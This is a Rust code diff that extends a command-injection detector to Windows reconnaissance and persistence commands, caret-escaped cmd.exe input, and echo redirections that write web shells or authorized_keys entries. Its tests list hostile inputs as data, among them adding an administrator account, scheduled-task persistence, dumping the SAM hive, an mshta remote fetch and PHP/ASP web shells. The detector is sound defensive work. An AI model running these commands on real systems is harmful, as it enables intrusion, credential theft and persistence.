@@ -282,6 +282,49 @@ const COMMANDS: [&str; 261] = [
     "gcloud",
 ];
 
+/// Windows programs an intruder runs to look around and to stay (`ipconfig`, `tasklist`,
+/// `schtasks /create`, `vssadmin`): no English word or name, so matched at any command
+/// position as [`COMMANDS`] are. (Those that are words, `net`, `dir`, `reg`, have
+/// [`windows_command`].)
+const WINDOWS_COMMANDS: [&str; 36] = [
+    "ipconfig",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "netsh",
+    "nltest",
+    "dsquery",
+    "schtasks",
+    "wevtutil",
+    "vssadmin",
+    "bcdedit",
+    "icacls",
+    "cacls",
+    "qwinsta",
+    "quser",
+    "fsutil",
+    "cscript",
+    "wscript",
+    "mshta",
+    "regsvr32",
+    "nbtstat",
+    "tracert",
+    "getmac",
+    "klist",
+    "cmdkey",
+    "takeown",
+    "diskpart",
+    "msiexec",
+    "findstr",
+    "xcopy",
+    "robocopy",
+    "driverquery",
+    "net1",
+    "cmstp",
+    "forfiles",
+    "wbadmin",
+];
+
 /// Commands that are also subjects of ordinary text (languages, well-known tools, names).
 const TOPICS: [&str; 17] = [
     "axel", "python", "python2", "python3", "perl", "php", "ruby", "lua", "node", "nodejs",
@@ -299,6 +342,7 @@ const WRAPPERS: [&str; 10] = [
 /// [`COMMANDS`], [`WORD_COMMANDS`], [`TOPICS`] and [`WRAPPERS`] as sets: every word at a
 /// command position and every quoted word is looked up, so a lookup must not walk the lists.
 static COMMAND_SET: WordSet = WordSet::new(&COMMANDS);
+static WINDOWS_COMMAND_SET: WordSet = WordSet::new(&WINDOWS_COMMANDS);
 static WORD_COMMAND_SET: WordSet = WordSet::new(&WORD_COMMANDS);
 static TOPIC_SET: WordSet = WordSet::new(&TOPICS);
 static WRAPPER_SET: WordSet = WordSet::new(&WRAPPERS);
@@ -306,6 +350,7 @@ static WRAPPER_SET: WordSet = WordSet::new(&WRAPPERS);
 /// Whether `name` is a known command, a member of a command family, or `ansible` itself.
 fn is_command(name: &str) -> bool {
     COMMAND_SET.contains(name)
+        || WINDOWS_COMMAND_SET.contains(name)
         || COMMAND_FAMILIES.iter().any(|f| {
             name == *f
                 || name
@@ -711,7 +756,18 @@ fn starts_with_command_name(decoded: &[u8]) -> bool {
             && !TOPIC_SET.contains(name)
             && !PROSE_COMMAND_SET.contains(name)
     };
-    known(name) || known(without_version(name))
+    // `net view`, `sc query`: a Windows command by its subcommand, nothing more needed in a
+    // whole value at this level (`dir` alone is left out: a folder field's value).
+    let windows = matches!(name, "net" | "sc")
+        && rest.get(end..).is_some_and(|args| {
+            let args = args.get(..ARGUMENT_REACH).unwrap_or(args);
+            windows_command(
+                name,
+                &String::from_utf8_lossy(args).to_ascii_lowercase(),
+                false,
+            ) == Some(true)
+        });
+    known(name) || known(without_version(name)) || windows
 }
 
 /// `${name}` or `${name…}` with an operator (`${cmd}`, `${x#{}}`, `${path:-/bin}`): a shell's
@@ -1047,13 +1103,241 @@ fn command_with_arguments(name: &str, args: &str, behind_expansion: bool) -> boo
             || (arg.first().is_some_and(u8::is_ascii_alphabetic)
                 && arg.get(1..3) == Some(b":\\".as_slice()));
     }
+    if let Some(fits) = windows_command(name, args, false) {
+        return fits;
+    }
+    // cmd.exe drops a `^` before any byte (`n^et us^er`, `who^ami`): a word with one is read
+    // without them (its arguments too, as far as they are read).
+    if name.contains('^') {
+        let name = name.replace('^', "");
+        let args = within(args, ARGUMENT_REACH).replace('^', "");
+        return is_command(&name) || windows_command(&name, &args, false) == Some(true);
+    }
     if name == "cd" {
         return changes_directory(args);
+    }
+    // `echo` writing a script to run later: `; echo "<?php system($_GET['c']); ?>" > c.php`.
+    if name == "echo" && echo_writes_script(args) {
+        return true;
     }
     if OPTION_COMMAND_SET.contains(name) {
         return is_option(args.trim_start_matches([' ', '\t']));
     }
     WORD_COMMAND_SET.contains(name) && (behind_expansion || shell_like_arguments(args))
+}
+
+/// `net`'s subcommands that list or change accounts, groups, shares, sessions and services.
+const NET_SUBCOMMANDS: [&str; 13] = [
+    "user",
+    "users",
+    "localgroup",
+    "group",
+    "view",
+    "share",
+    "use",
+    "start",
+    "stop",
+    "session",
+    "sessions",
+    "accounts",
+    "config",
+];
+
+/// `reg`'s subcommands (each names a registry key next).
+const REG_SUBCOMMANDS: [&str; 11] = [
+    "query", "add", "delete", "export", "import", "save", "load", "unload", "copy", "compare",
+    "restore",
+];
+
+/// `sc`'s subcommands that list, create or change services.
+const SC_SUBCOMMANDS: [&str; 12] = [
+    "query",
+    "queryex",
+    "qc",
+    "create",
+    "config",
+    "start",
+    "stop",
+    "delete",
+    "description",
+    "failure",
+    "sdshow",
+    "sdset",
+];
+
+/// cmd.exe commands that are English words too, with the arguments that make them a command
+/// (`None`: `name` is none of them). `net` and `sc` need a subcommand of theirs (`net user`,
+/// `net localgroup`, `sc query`) and then nothing more, or an argument shaped like a Windows
+/// command's own ([`windows_arguments`]: `/add`, `c:\`, `hklm\`), `reg` a subcommand and such
+/// an argument, `dir` nothing more or such an argument, and `del`, `copy`, `move`, `rd`,
+/// `attrib`, `tree` such an argument. "salt & net weight", "R&D dir list", "Ctrl & Del" are
+/// not commands. `at_value_start`: the word starts the value, which is ordinary input unless
+/// a shaped argument follows (`net view` alone is not read as a command there), but
+/// `net localgroup`, a word of no sentence, is.
+fn windows_command(name: &str, args: &str, at_value_start: bool) -> Option<bool> {
+    let arg = within(args, ARGUMENT_REACH).trim_start_matches([' ', '\t']);
+    let sub_end = arg
+        .find(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '<' | '>'))
+        .unwrap_or(arg.len());
+    let sub = arg.get(..sub_end).unwrap_or_default();
+    let after_sub = arg.get(sub_end..).unwrap_or_default();
+    let fits = match name {
+        "net" => {
+            NET_SUBCOMMANDS.contains(&sub)
+                && (sub == "localgroup" || windows_arguments(after_sub, !at_value_start))
+        }
+        "sc" => SC_SUBCOMMANDS.contains(&sub) && windows_arguments(after_sub, !at_value_start),
+        "reg" => REG_SUBCOMMANDS.contains(&sub) && windows_arguments(after_sub, false),
+        "dir" => windows_arguments(args, !at_value_start),
+        "del" | "erase" | "copy" | "move" | "rd" | "rmdir" | "attrib" | "tree" => {
+            windows_arguments(args, false)
+        }
+        _ => return None,
+    };
+    Some(fits)
+}
+
+/// How far the arguments of a Windows command are read: a command line is short, and reading
+/// no further keeps a value of many command positions linear.
+const ARGUMENT_REACH: usize = 256;
+
+/// `text` cut to at most `reach` bytes (at a character boundary).
+fn within(text: &str, reach: usize) -> &str {
+    let mut end = text.len().min(reach);
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    text.get(..end).unwrap_or_default()
+}
+
+/// The arguments of a cmd.exe command up to the command's end (an unquoted `;`, `|`, `&`, line
+/// break or redirection; at most [`ARGUMENT_REACH`] bytes): whether one is shaped like a
+/// Windows command's own ([`windows_shaped`]), or, `empty_ok`, whether there are none.
+fn windows_arguments(args: &str, empty_ok: bool) -> bool {
+    let bytes = within(args, ARGUMENT_REACH).as_bytes();
+    let mut quoted = false;
+    let mut word_start = true;
+    let mut any = false;
+    for (i, &b) in bytes.iter().enumerate() {
+        if b == b'"' {
+            quoted = !quoted;
+            word_start = true;
+        } else if !quoted && matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'<' | b'>') {
+            break;
+        } else if b.is_ascii_whitespace() {
+            word_start = true;
+        } else {
+            if word_start && windows_shaped(bytes.get(i..).unwrap_or_default()) {
+                return true;
+            }
+            word_start = false;
+            any = true;
+        }
+    }
+    empty_ok && !any
+}
+
+/// A word shaped like a Windows command's argument: a switch (`/all`, `/add`, `/v`, `/?`,
+/// `/t:x`; not a path, `/etc/x`), a drive path (`c:\`), a share (`\\host`), a batch
+/// variable (`%systemroot%`) or a registry hive (`hklm\`, `hkcu:`, `hkey_local_machine`).
+fn windows_shaped(word: &[u8]) -> bool {
+    match word {
+        [b'/', b'?', ..] => true,
+        [b'/', rest @ ..] => {
+            let letters = rest.iter().take_while(|b| b.is_ascii_alphabetic()).count();
+            (1..=16).contains(&letters)
+                && rest.get(letters).is_none_or(|&c| {
+                    c.is_ascii_whitespace()
+                        || matches!(c, b':' | b'"' | b';' | b'|' | b'&' | b'<' | b'>')
+                })
+        }
+        [d, b':', b'\\', ..] => d.is_ascii_alphabetic(),
+        [b'\\', b'\\', c, ..] => c.is_ascii_alphanumeric(),
+        [b'%', rest @ ..] => {
+            let name = rest
+                .iter()
+                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
+                .count();
+            name > 0 && rest.get(name) == Some(&b'%')
+        }
+        _ => {
+            word.starts_with(b"hkey_")
+                || [b"hklm".as_slice(), b"hkcu", b"hkcr", b"hkcc", b"hku"]
+                    .iter()
+                    .any(|hive| {
+                        word.strip_prefix(*hive)
+                            .is_some_and(|r| matches!(r.first(), Some(b'\\' | b':')))
+                    })
+        }
+    }
+}
+
+/// How far an `echo`'s arguments are read for a redirection: a web shell is a line of code.
+const ECHO_REACH: usize = 512;
+
+/// Files an `echo` writes to have them run or trusted later: server pages and scripts
+/// (`.php`, `.jsp`, `.aspx`, `.sh`, `.ps1`, `.bat`), by extension.
+const SCRIPT_EXTENSIONS: [&str; 24] = [
+    "php", "php3", "php4", "php5", "php7", "phtml", "phar", "pht", "jsp", "jspx", "asp", "aspx",
+    "ashx", "asmx", "cgi", "pl", "py", "rb", "sh", "ps1", "bat", "cmd", "vbs", "hta",
+];
+
+/// An `echo` whose output a redirection (`>`, `>>`, outside quotes, before the command ends)
+/// sends to a script file ([`SCRIPT_EXTENSIONS`]), to `.htaccess` or to `authorized_keys`:
+/// `echo "<?php system($_GET['c']); ?>" > c.php`. The quoted text is skipped whole, with the
+/// `;` and `|` a web shell holds. (At most [`ECHO_REACH`] bytes are read.)
+fn echo_writes_script(args: &str) -> bool {
+    let bytes = within(args, ECHO_REACH).as_bytes();
+    let mut quote: Option<u8> = None;
+    let mut i = 0;
+    while let Some(&b) = bytes.get(i) {
+        match (quote, b) {
+            (Some(b'"'), b'\\') => i += 1,
+            (Some(q), _) if b == q => quote = None,
+            (Some(_), _) => {}
+            (None, b'\'' | b'"') => quote = Some(b),
+            (None, b'\\') => i += 1,
+            (None, b';' | b'|' | b'&' | b'\n' | b'\r') => return false,
+            (None, b'>') if redirects_to_script(bytes.get(i + 1..).unwrap_or_default()) => {
+                return true
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    false
+}
+
+/// Whether the target of a redirection (after its `>`) is a script file, `.htaccess` or
+/// `authorized_keys`.
+fn redirects_to_script(after: &[u8]) -> bool {
+    let start = after
+        .iter()
+        .position(|&b| !(b == b'>' || b.is_ascii_whitespace()))
+        .unwrap_or(after.len());
+    let target = after.get(start..).unwrap_or_default();
+    let end = target
+        .iter()
+        .position(|&b| b.is_ascii_whitespace() || matches!(b, b';' | b'|' | b'&' | b'<' | b'>'))
+        .unwrap_or(target.len());
+    let target = target.get(..end).unwrap_or_default();
+    let file = target
+        .rsplit(|&b| matches!(b, b'/' | b'\\'))
+        .next()
+        .unwrap_or_default();
+    let file: Vec<u8> = file
+        .iter()
+        .copied()
+        .filter(|b| !matches!(b, b'\'' | b'"'))
+        .collect();
+    if file == b".htaccess" || file == b"authorized_keys" {
+        return true;
+    }
+    let Some(dot) = file.iter().rposition(|&b| b == b'.') else {
+        return false;
+    };
+    let extension = file.get(dot + 1..).unwrap_or_default();
+    dot > 0 && SCRIPT_EXTENSIONS.iter().any(|e| e.as_bytes() == extension)
 }
 
 /// `cd`'s arguments in a command line: `..`, or a path (`/x`, `~`, `-`, `$HOME`) and then the
@@ -1237,6 +1521,16 @@ fn starts_with_command_and_option(text: &str) -> bool {
         return true;
     }
     if first == "alias" && names_command(trimmed) {
+        return true;
+    }
+    // A Windows command with an argument shaped like its own (`ipconfig /all`,
+    // `net user x y /add`, `dir c:\users`, `type c:\x`), an `echo` into a script.
+    let args = trimmed.get(first.len()..).unwrap_or_default();
+    if (WINDOWS_COMMAND_SET.contains(first) && windows_arguments(args, false))
+        || windows_command(first, args, true) == Some(true)
+        || (first == "type" && windows_shaped(args.trim_start_matches([' ', '\t']).as_bytes()))
+        || (first == "echo" && echo_writes_script(args))
+    {
         return true;
     }
     // `${SHELL} -c "…"`, `$a -nlvp 555`: a program named by a variable, run with an option.
@@ -1830,6 +2124,100 @@ mod tests {
     }
 
     #[test]
+    fn windows_commands_at_a_command_position() {
+        for v in [
+            "& ipconfig /all",
+            "x| TaskList /V",
+            "a;systeminfo",
+            "1 && schtasks /create /tn x /tr c:\\x.exe /sc onlogon",
+            "& net user bob Secret1 /ADD",
+            "x &&  NET   LocalGroup administrators bob /add",
+            "; net localgroup administrators",
+            "| net view",
+            "& net share",
+            "x&net use \\\\10.0.0.1\\c$",
+            "a & net user",
+            "&& reg add \"HKLM\\Software\\x\" /v run /t REG_SZ /d c:\\x.exe /f",
+            "; reg query hkcu\\software",
+            "| reg save HKEY_LOCAL_MACHINE\\SAM sam.hiv",
+            "& sc query",
+            "; sc create evil binpath= c:\\x.exe",
+            "| dir",
+            "&& dir C:\\Users",
+            "; dir /s /b",
+            "x & dir %USERPROFILE%",
+            "& del /f /q c:\\x",
+            "& attrib +h c:\\x.exe",
+            "& copy \\\\host\\share\\x.exe %TEMP%",
+            "; mshta http://x/a.hta",
+            // cmd.exe's caret escapes.
+            "& n^et us^er bob x /a^dd",
+            "| ip^config /all",
+            "& who^ami",
+            // At the start of a value, with a switch, a drive or a hive.
+            "ipconfig /all",
+            "net user bob Secret1 /add",
+            "net localgroup administrators bob",
+            "reg add \"HKLM\\x\" /v y /d 0 /f",
+            "dir c:\\",
+            "type C:\\Windows\\repair\\SAM",
+            "tasklist /svc",
+        ] {
+            assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
+        }
+        for v in [
+            "Tom & Jerry",
+            "salt & net weight 5 kg",
+            "gross & net sales",
+            "gross & net; user guide",
+            "R&D dir list",
+            "Marketing & Dir. of Sales",
+            "type A & type B",
+            "Ctrl & Del",
+            "cut & copy / paste",
+            "search & copy the text",
+            "Sales & Net User Growth",
+            "net view of the market",
+            "net user growth",
+            "dir listing is off",
+            "the dir c is empty",
+            "R & D & reg. office",
+            "https://example.com/?a=1&dir=asc",
+            "https://example.com/net/user?id=1",
+            "Tree & Leaf",
+            "salt & pepper; type /help",
+            "Net & Dir Studio",
+            "dir /etc/passwd-style paths",
+        ] {
+            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
+        }
+    }
+
+    #[test]
+    fn echo_into_a_script_file() {
+        for v in [
+            "; echo \"<?php system($_GET['cmd']); ?>\" > cmd.php",
+            "| echo \"<?php include($_GET['p'])| ?>\" > rfi.php",
+            "&& ECHO '<% eval request(\"x\") %>' >> /var/www/html/x.asp",
+            "x; echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
+            "; echo AddType application/x-httpd-php .jpg > .htaccess",
+            "echo \"<?php phpinfo(); ?>\" > info.php",
+        ] {
+            assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
+        }
+        for v in [
+            "; echo hello > notes.txt",
+            "echo is a sound > noise",
+            "say; echo \"a > b.php\" then",
+            "echo \"x\"; y > z.php",
+            "the echo > 5 php",
+            "echo chamber > 1.5x",
+        ] {
+            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
+        }
+    }
+
+    #[test]
     fn ordinary_text_passes() {
         for v in [
             "cat food & dog food",
@@ -1946,6 +2334,9 @@ mod tests {
             ("cscli alerts list\n", "rce-007"),
             ("pip3 install something\n", "rce-007"),
             ("\"nmap\" -sV host", "rce-007"),
+            ("net view", "rce-007"),
+            ("NET  share", "rce-007"),
+            ("sc query", "rce-007"),
             ("${cmd}", "rce-008"),
             ("${x#{}}", "rce-008"),
             ("x ${PATH:-/bin}", "rce-008"),
@@ -1963,6 +2354,9 @@ mod tests {
             assert!(level2(v).contains(&id), "{v}: {:?}", level2(v));
         }
         for v in [
+            "net weight 5 kg",
+            "net user growth",
+            "dir",
             "python tutorial",
             "curl your hair",
             "gzip",
@@ -2016,6 +2410,13 @@ mod tests {
             " /a?",
             "{a,",
             "a{b,c}",
+            ";net a{",
+            "&net user ",
+            ";dir ",
+            "|reg add \"",
+            ";echo \"",
+            ";echo '>",
+            "& n^et ",
         ] {
             let value = piece.repeat(40_000 / piece.len());
             let start = std::time::Instant::now();
@@ -2038,6 +2439,10 @@ mod tests {
             ("iwr x", ValueKind::Text),
             ("/usr/bin/visudo", ValueKind::Path),
             ("/x/regedit /s", ValueKind::Path),
+            ("net view", ValueKind::Text),
+            ("net localgroup administrators", ValueKind::Text),
+            ("ipconfig /all", ValueKind::Text),
+            ("x/net user a /add", ValueKind::Path),
         ] {
             let ids = |shortcuts| -> Vec<&str> {
                 inspect_with(v.as_bytes(), kind, "q", Enabled::STRICT, shortcuts)
